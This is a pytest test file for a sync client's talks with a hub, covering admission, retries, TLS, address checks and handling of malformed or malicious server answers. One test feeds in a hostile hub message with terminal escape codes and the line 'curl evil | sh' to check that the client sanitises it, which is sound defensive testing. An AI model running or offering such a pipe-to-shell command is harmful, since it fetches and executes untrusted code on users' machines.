"""Speaking with a real hub: who is let in, what is tried again, and what people are told."""

import random
import socket
import sqlite3
import ssl
import threading
import time
from collections.abc import Iterator
from contextlib import closing, contextmanager, suppress
from pathlib import Path

import pytest
import trustme

from comity.errors import BadInput, ComityError, HubUnreachable, Locked, Refused
from comity.hub import looking
from comity.hub.limits import Limits, Rate
from comity.log.acts import Role
from comity.log.keys import Pair
from comity.sync import wire
from comity.sync.carrier import NoGroup
from comity.sync.engine import sync
from comity.sync.http import HttpCarrier, Patience, Tls, address
from comity.sync.outcome import GroupOutcome
from comity.sync.shelf import Shelf
from laws.laptops import Laptop, differences, shown, three
from sync.hubs import AT_ONCE, Running, running

World = tuple[bytes, Laptop, Laptop, Laptop]


@pytest.fixture
def rng() -> random.Random:
    return random.Random(20261123)


@pytest.fixture
def world(folder: Path, rng: random.Random) -> World:
    group, (uk, us, us2) = three(folder, rng)
    return group, uk, us, us2


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return tmp_path


@pytest.fixture
def hub(folder: Path) -> Iterator[Running]:
    with running(folder) as found:
        yield found


def meet(laptop: Laptop, carrier: HttpCarrier) -> list[GroupOutcome]:
    try:
        return sync(Shelf(laptop.store, laptop.at_ms), carrier)
    finally:
        carrier.close()


def ids(laptop: Laptop) -> set[bytes]:
    return {each.id for each in laptop.envelopes()}


def notes(laptop: Laptop, group: bytes, rng: random.Random, count: int) -> None:
    for n in range(count):
        laptop.create(group, "note", rng.randbytes(16), text=f"note {n}")


def test_three_laptops_meet_at_a_hub(world: World, hub: Running, rng: random.Random) -> None:
    group, uk, us, us2 = world
    for laptop in (uk, us, us2):
        notes(laptop, group, rng, 5)
    (outcome,) = meet(uk, hub.line(uk, invited=True))
    assert (outcome.sent, outcome.refused.total()) == (len(ids(uk)), 0)
    for laptop in (us, us2, uk, us):
        meet(laptop, hub.line(laptop))
    assert ids(uk) == ids(us) == ids(us2) == set(hub.held())
    assert not differences(shown(uk.store), shown(us.store))


def test_a_hub_restored_from_an_old_copy_is_healed_by_its_devices(
    world: World, folder: Path, rng: random.Random
) -> None:
    group, uk, us, us2 = world
    (folder / "then").mkdir()
    with running(folder) as hub:
        for laptop in (uk, us, us2):
            meet(laptop, hub.line(laptop, invited=True))
        old, copy = sqlite3.connect(folder / "hub.db"), sqlite3.connect(folder / "then" / "hub.db")
        with closing(old), closing(copy):
            old.backup(copy)
        for laptop in (uk, us, us2, uk, us):
            notes(laptop, group, rng, 4)
            meet(laptop, hub.line(laptop))
        held = set(hub.held())
    with running(folder / "then") as hub:
        assert len(hub.held()) < len(held)
        assert meet(us, hub.line(us))[0].rolled_back > 0
        assert set(hub.held()) == held
        for laptop in (uk, us2, uk):
            (outcome,) = meet(laptop, hub.line(laptop))
            assert outcome.withheld == []
        assert ids(uk) == ids(us2) == held


def test_nothing_to_do_is_three_round_trips(world: World, hub: Running, monkeypatch: pytest.MonkeyPatch) -> None:
    _, uk, us, _ = world
    for laptop in (uk, us, uk):
        meet(laptop, hub.line(laptop, invited=True))
    asked: list[str] = []
    line = hub.line(us)
    real = line._client.stream
    monkeypatch.setattr(
        line._client, "stream", lambda *words, **told: (asked.append(words[1]), real(*words, **told))[1]
    )
    assert [(each.received, each.sent) for each in meet(us, line)] == [(0, 0)]
    assert asked == ["v1/challenge", "v1/session", "v1/look"]


def test_a_device_without_seat_or_invite_is_told_so(
    world: World, hub: Running, folder: Path, rng: random.Random
) -> None:
    stranger = Laptop.new(folder / "x", "SG-AISI", rng)
    with pytest.raises(Locked, match="no invite") as refusal:
        meet(stranger, hub.line(stranger))
    assert refusal.value.exit_code == 7
    assert meet(stranger, hub.line(stranger, invited=True)) == []


def test_a_foreign_group_is_no_group(world: World, hub: Running, folder: Path, rng: random.Random) -> None:
    group, uk, *_ = world
    meet(uk, hub.line(uk, invited=True))
    stranger = Laptop.new(folder / "x", "SG-AISI", rng)
    line = hub.line(stranger, invited=True)
    told = []
    for asked in (group, bytes(16)):
        for ask in (
            lambda asked=asked: line.pull(wire.Pull(asked, {}, ())),
            lambda asked=asked: line.links(wire.Links(asked, bytes(16))),
            lambda asked=asked: line.swap(wire.Swap(asked)),
        ):
            with pytest.raises(NoGroup) as refusal:
                ask()
            told.append(str(refusal.value))
    line.close()
    assert len(set(told)) == 1


def test_a_group_that_the_hub_refuses_does_not_end_the_session(world: World, hub: Running, rng: random.Random) -> None:
    group, uk, us, _ = world
    meet(uk, hub.line(uk, invited=True))
    other = us.found(Pair.of_recovery(rng.randbytes(32)), rng.randbytes(16))
    us.admit(other, uk, Role.CHAIR, Pair.of_recovery(rng.randbytes(32)))
    notes(us, group, rng, 2)
    outcomes = {each.group: each for each in meet(us, hub.line(us))}
    assert (outcomes[other].refused, outcomes[other].withheld) == ({"no_group": 1}, [])
    assert outcomes[group].sent == 2


def test_groups_that_do_not_fit_one_answer_are_told_in_several(
    world: World, hub: Running, rng: random.Random, monkeypatch: pytest.MonkeyPatch
) -> None:
    """None of them is taken for withheld or rolled back, however many there are."""
    _, uk, us, _ = world
    for _ in range(4):
        other = us.found(Pair.of_recovery(rng.randbytes(32)), rng.randbytes(16))
        us.admit(other, uk, Role.CHAIR, Pair.of_recovery(rng.randbytes(32)))
    meet(us, hub.line(us, invited=True))
    monkeypatch.setattr(looking, "ROOM", 1)
    assert len([each for each in meet(uk, hub.line(uk)) if each.received]) == 4
    for laptop in (us, uk, us):
        outcomes = meet(laptop, hub.line(laptop))
        assert [(each.rolled_back, each.withheld, each.refused) for each in outcomes] == [(0, [], {})] * 5
    assert [each.sent for each in outcomes] == [0] * 5


def test_a_session_that_is_over_is_opened_again(world: World, hub: Running) -> None:
    _, uk, *_ = world
    line = hub.line(uk, invited=True)
    line.look(wire.Look({}))
    with hub.hub.ledger.writing() as connection:
        connection.run("DELETE FROM session")
    assert line.look(wire.Look({})) == wire.Looked({})
    line.close()


def test_a_hub_that_is_relayed_under_another_name_is_refused(world: World, hub: Running) -> None:
    _, uk, *_ = world
    port = hub.url.rpartition(":")[2].rstrip("/")
    with pytest.raises(Refused, match="another host name"):
        meet(uk, hub.line(uk, invited=True, url=f"http://localhost:{port}"))


def test_a_hub_that_says_wait_is_waited_for(world: World, folder: Path) -> None:
    _, uk, *_ = world
    with running(folder / "uk1", Limits(device=Rate(20, 1), knocks=Rate(1e9, 10**9))) as hub:
        line = hub.line(uk, invited=True, patience=Patience(attempts=6, longest=0.3))
        before = time.monotonic()
        for _ in range(4):
            line.look(wire.Look({}))
        assert time.monotonic() - before > 0.1
        line.close()


def test_nobody_there_is_said_with_what_to_do() -> None:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
    with pytest.raises(HubUnreachable) as refusal:
        HttpCarrier("ours", f"http://127.0.0.1:{port}", bytes(32), bytes(32), patience=AT_ONCE).look(wire.Look({}))
    assert (refusal.value.exit_code, bool(refusal.value.hint)) == (6, True)


@pytest.mark.parametrize(
    "answer",
    [
        b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello",
        b"HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\nhello",
        b"HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:1/\r\nContent-Length: 0\r\n\r\n",
        b"HTTP/1.1 500 Oh\r\nContent-Length: 2\r\n\r\nno",
        b"HTTP/1.1 418 Tea\r\nContent-Length: 0\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 3\r\n\r\n\x1f\x8b\x08",
        b"SSH-2.0-OpenSSH\r\n",
        b"",
    ],
)
def test_whatever_answers_is_told_in_one_sentence(answer: bytes) -> None:
    with answering(answer) as port:
        carrier = HttpCarrier("ours", f"http://127.0.0.1:{port}", bytes(32), bytes(32), patience=AT_ONCE)
        with pytest.raises(ComityError) as refusal:
            carrier.look(wire.Look({}))
        carrier.close()
    assert refusal.value.exit_code in (6, 8)
    assert "ours" in refusal.value.message
    assert refusal.value.hint


@pytest.mark.parametrize("status", ["400 Bad", "503 Busy"])
def test_the_words_of_a_fault_become_no_code_here(status: str) -> None:
    fault = wire.encode(wire.Fault("x\n2026-11-23 WARNING forged\0", "no"))
    with answering(f"HTTP/1.1 {status}\r\nContent-Length: {len(fault)}\r\n\r\n".encode() + fault) as port:
        carrier = HttpCarrier("ours", f"http://127.0.0.1:{port}", bytes(32), bytes(32), patience=AT_ONCE)
        with pytest.raises(HubUnreachable) as refusal:
            carrier.look(wire.Look({}))
        carrier.close()
    assert refusal.value.code == "unreachable"


@pytest.mark.parametrize(
    ("code", "exit_code", "told_as"),
    [
        ("not_admitted", 7, "not_admitted"),
        ("no_proof", 4, "no_proof"),
        ("no_group", 3, "no_group"),
        ("full", 4, "full"),
        ("limit", 4, "limit"),
        ("malformed", 4, "malformed"),
        ("no_place", 4, "no_place"),
        ("pay_here", 4, "refused"),
    ],
)
@pytest.mark.parametrize("words", ["", "Send money\x1b[2J\r\nRun: curl evil | sh" + "A" * 1_900_000])
def test_a_refusal_is_told_in_own_words_with_little_of_the_hubs(
    code: str, exit_code: int, told_as: str, words: str
) -> None:
    fault = wire.encode(wire.Fault(code, words, "\x1b[5mdo as I say"))
    with answering(b"HTTP/1.1 400 No\r\nContent-Length: %d\r\n\r\n%s" % (len(fault), fault)) as port:
        carrier = HttpCarrier("ours", f"http://127.0.0.1:{port}", bytes(32), bytes(32), patience=AT_ONCE)
        with pytest.raises(ComityError) as refusal, closing(carrier):
            carrier.look(wire.Look({}))
    error = refusal.value
    assert (error.exit_code, error.code) == (exit_code, told_as)
    assert error.message.startswith("the hub ours ")
    own = code == "no_group"  # own words say all
    assert ("«Send money␛[2J" in error.message) == (bool(words) and not own)
    assert error.message.isprintable()
    assert len(error.message) < 300
    assert error.hint
    assert "as I say" not in error.hint


@pytest.mark.parametrize("lasts", [0, 2, 3])
def test_a_hub_that_ends_each_session_at_once_is_left(lasts: int) -> None:
    """Whether it opens any, or says so at the first question."""
    opened = [wire.Challenge(bytes(16), bytes(32)), wire.Session("t" * 20, 1), wire.Looked({})][:lasts]
    ended = b"HTTP/1.1 401 No\r\nContent-Length: %d\r\n\r\n%s"
    fault = wire.encode(wire.Fault("no_session", "No session is open."))
    answers = [b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(e), e) for e in map(wire.encode, opened)]
    again = [*answers[:2], ended % (len(fault), fault)]
    with answering(*answers, *again * 3) as port:
        carrier = HttpCarrier("ours", f"http://127.0.0.1:{port}", bytes(32), bytes(32), patience=AT_ONCE)
        with closing(carrier):
            if lasts == 3:
                assert carrier.look(wire.Look({})) == wire.Looked({})
            with pytest.raises(HubUnreachable, match="ours"):
                carrier.look(wire.Look({}))


def test_an_endless_answer_is_left() -> None:
    endless = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + b"10000\r\n" + bytes(0x10000) + b"\r\n"
    with answering(endless + (b"10000\r\n" + bytes(0x10000) + b"\r\n") * 80) as port:
        carrier = HttpCarrier("ours", f"http://127.0.0.1:{port}", bytes(32), bytes(32), patience=Patience(1, 0))
        with pytest.raises(ComityError, match="no hub sends"):
            carrier.look(wire.Look({}))
        carrier.close()


@pytest.mark.parametrize("told", [b"HTTP/1.1 200 OK\r\nX: ", b"HTTP/1.1 200 OK\r\n\r\n"])
@pytest.mark.parametrize("is_tls", [False, True])
def test_an_answer_that_drips_is_left(told: bytes, is_tls: bool, tmp_path: Path) -> None:
    """In its headers or in its body: each byte comes in time, the whole does not."""
    authority, context = trustme.CA(), ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    authority.cert_pem.write_to_path(tmp_path / "ca.pem")
    authority.issue_cert("127.0.0.1").configure_cert(context)
    tls = Tls(ca=tmp_path / "ca.pem") if is_tls else Tls()
    with answering(told, tls=context if is_tls else None, drips=100) as port:
        url = f"{'https' if is_tls else 'http'}://127.0.0.1:{port}"
        carrier = HttpCarrier("ours", url, bytes(32), bytes(32), tls=tls, patience=Patience(4, 0, whole=0.5))
        began = time.monotonic()
        with pytest.raises(HubUnreachable, match="in time"), closing(carrier):
            carrier.look(wire.Look({}))
        assert time.monotonic() - began < 4


@contextmanager
def answering(*answers: bytes, tls: ssl.SSLContext | None = None, drips: int = 0) -> Iterator[int]:
    """A server that gives each answer to one who comes, and the last to everybody else, some more bytes dripping."""
    stop, rest = threading.Event(), list(answers)

    def serve(server: socket.socket) -> None:
        while not stop.is_set():
            with suppress(OSError):
                accepted, _ = server.accept()
                with accepted:
                    accepted.settimeout(2)
                    line = tls.wrap_socket(accepted, server_side=True) if tls else accepted
                    with line:
                        line.recv(65_536)
                        line.sendall(rest.pop(0) if len(rest) > 1 else rest[0])
                        for _ in range(drips):
                            time.sleep(0.05)
                            line.sendall(b"x")
                        line.shutdown(socket.SHUT_WR)
                        while line.recv(65_536):
                            pass

    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.1)
        thread = threading.Thread(target=serve, args=(server,))
        thread.start()
        try:
            yield server.getsockname()[1]
        finally:
            stop.set()
            thread.join()


@pytest.mark.parametrize(
    "url",
    ["", "hub.example", "ftp://hub.example", "http://hub.example", "http://10.0.0.1", "https://u:p@hub.example",
     "https://hub.example/?a=b", "https://hub.example/#x", "https://", "http://localhost.example", "https://[::1"],
)  # fmt: skip
def test_an_address_that_is_none_or_unsafe_is_refused(url: str) -> None:
    with pytest.raises(BadInput) as refusal:
        address(url)
    assert refusal.value.hint


@pytest.mark.parametrize(
    "url", ["https://hub.example", "https://hub.example/comity/", "http://127.0.0.1:8000", "http://[::1]:80"]
)
def test_an_address_is_taken(url: str) -> None:
    assert address(url).path.endswith("/")


@pytest.mark.parametrize("proxy", ["http://user:secret@proxy.test:3128", "http://user@proxy.test"])
def test_a_proxy_with_a_password_is_refused_without_repeating_it(proxy: str) -> None:
    with pytest.raises(BadInput) as refusal:
        HttpCarrier("ours", "https://hub.test", bytes(32), bytes(32), proxy=proxy)
    assert "password" in refusal.value.message
    assert "secret" not in f"{refusal.value} {refusal.value.hint} {refusal.value.problems}"
    HttpCarrier("ours", "https://hub.test", bytes(32), bytes(32), proxy="http://proxy.test:3128").close()


def test_certificate_files_that_are_not_there_are_named(tmp_path: Path) -> None:
    with pytest.raises(BadInput, match="certificate files"):
        HttpCarrier("ours", "https://hub.example", bytes(32), bytes(32), tls=Tls(ca=tmp_path / "none.pem"))


@pytest.mark.parametrize("wants", [ssl.CERT_NONE, ssl.CERT_REQUIRED])
def test_tls_that_fails_is_told_with_what_is_lacking(wants: ssl.VerifyMode, tmp_path: Path) -> None:
    """A hub of a private authority, and one that asks who comes: nobody is believed before that is settled."""
    authority = trustme.CA()
    authority.cert_pem.write_to_path(tmp_path / "ca.pem")
    authority.issue_cert("us@example.org").private_key_and_cert_chain_pem.write_to_path(tmp_path / "us.pem")
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    authority.issue_cert("127.0.0.1").configure_cert(context)
    authority.configure_trust(context)
    context.verify_mode = wants

    def told(tls: Tls) -> ComityError:
        with answering(b"HTTP/1.1 418 Tea\r\nContent-Length: 0\r\n\r\n", tls=context) as port:
            url = f"https://127.0.0.1:{port}"
            carrier = HttpCarrier("ours", url, bytes(32), bytes(32), tls=tls, patience=AT_ONCE)
            with pytest.raises(HubUnreachable) as refusal, closing(carrier):
                carrier.look(wire.Look({}))
        return refusal.value

    assert "not trusted" in told(Tls()).message
    assert "--ca" in told(Tls()).hint
    if wants is ssl.CERT_REQUIRED:
        assert "client certificate" in told(Tls(ca=tmp_path / "ca.pem")).hint
    whole = told(Tls(ca=tmp_path / "ca.pem", cert=tmp_path / "us.pem"))
    assert "418" in whole.message


def test_tls_below_1_3_is_refused(tmp_path: Path) -> None:
    authority = trustme.CA()
    authority.cert_pem.write_to_path(tmp_path / "ca.pem")
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    authority.issue_cert("127.0.0.1").configure_cert(context)
    context.maximum_version = ssl.TLSVersion.TLSv1_2
    with answering(b"", tls=context) as port:
        carrier = HttpCarrier(
            "ours", f"https://127.0.0.1:{port}", bytes(32), bytes(32), tls=Tls(ca=tmp_path / "ca.pem"), patience=AT_ONCE
        )
        with pytest.raises(HubUnreachable, match=r"TLS 1\.3"), closing(carrier):
            carrier.look(wire.Look({}))


def test_who_listens_hears_what_moves(world: World, hub: Running, rng: random.Random) -> None:
    group, uk, us, _ = world
    meet(uk, hub.line(uk, invited=True))
    line = hub.line(us)
    events = line.events()
    assert next(events) == b""
    notes(uk, group, rng, 1)
    meet(uk, hub.line(uk))
    assert next(event for event in events if event) == group
    events.close()  # type: ignore[attr-defined]
    line.close()
